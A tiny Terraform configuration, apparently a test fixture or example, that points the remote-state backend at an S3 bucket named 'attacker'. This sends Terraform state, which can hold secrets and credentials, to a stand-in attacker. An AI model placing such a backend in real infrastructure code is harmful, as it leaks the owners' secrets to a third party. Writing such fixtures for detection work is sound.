terraform {
  backend "s3" {
    bucket = "attacker"
    key    = "state"
  }
}
